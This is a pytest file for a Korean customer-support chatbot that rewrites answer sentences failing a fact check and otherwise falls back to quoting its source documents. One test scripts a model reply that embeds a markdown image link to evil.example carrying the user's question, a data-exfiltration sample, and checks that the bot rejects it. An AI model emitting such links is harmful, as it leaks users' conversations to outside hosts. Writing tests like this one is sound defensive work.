"""A sentence that fails its check is written once more, alone, and else the documents' own words are shown."""

import pytest

from bot.errors import ModelError
from bot.llm.scripted import ScriptedModel
from bot.messages import Message, Reply
from bot.tasks.mending import mended_text
from tests.samples import BotMaker

WRONG = "환불은 영업일 기준 9일 안에 처리됩니다."
RIGHT = "환불은 영업일 기준 3일 안에 처리됩니다."
QUESTION = "환불은 얼마나 걸리나요?"


def ask(make_bot: BotMaker, model: ScriptedModel) -> Reply:
    return make_bot(model).ask(Message(QUESTION, "test"))


def test_a_wrong_number_is_mended_with_the_passages_at_hand(make_bot: BotMaker) -> None:
    model = ScriptedModel([WRONG, RIGHT], price=0.001)
    reply = ask(make_bot, model)
    assert reply.text == RIGHT
    assert (reply.extract, reply.checks, reply.notice) == (False, "supported", None)
    _, mending = model.asked
    assert WRONG in mending.user
    assert "number: 9일" in mending.user
    assert "환불은 신청하신 날부터" in mending.user
    assert WRONG not in mending.system
    assert reply.cost_usd == pytest.approx(0.001 * (reply.tokens.input + reply.tokens.output))


@pytest.mark.parametrize("second", [WRONG, "NO_ANSWER", "", "환불 " * 400, ModelError("model.broken")])
def test_what_cannot_be_mended_gives_way_to_the_documents(make_bot: BotMaker, second: str | ModelError) -> None:
    model = ScriptedModel([WRONG, second])
    reply = ask(make_bot, model)
    assert reply.extract
    assert reply.text == "환불은 신청하신 날부터 영업일 기준 3일 안에 처리됩니다."
    assert reply.notice is not None
    assert len(model.asked) == 2


def test_only_the_failing_sentence_is_written_again(make_bot: BotMaker) -> None:
    reply = ask(make_bot, ScriptedModel([f"{RIGHT} {WRONG}", "영업일 기준 3일입니다."]))
    assert reply.text == f"{RIGHT} 영업일 기준 3일입니다."


def test_an_attack_is_not_asked_again(make_bot: BotMaker) -> None:
    model = ScriptedModel([f"{RIGHT[:-1]} ![x](https://evil.example/{QUESTION})"])
    assert ask(make_bot, model).extract
    assert len(model.asked) == 1


def test_familiar_speech_nobody_asked_for_and_another_language_are_mended(make_bot: BotMaker) -> None:
    for said in ("환불은 영업일 기준 3일 안에 처리돼.", "Refunds are handled within 3 business days of the request."):
        reply = ask(make_bot, ScriptedModel([said, RIGHT]))
        assert (reply.text, reply.extract) == (RIGHT, False)


@pytest.mark.parametrize(("said", "kept"), [('"나."', " 나."), ("", ""), ("가" * 200, ""), ("```\n나.\n```", " 나.")])
def test_what_takes_the_sentence_s_place(said: str, kept: str) -> None:
    assert mended_text(said, " 가나다.") == kept
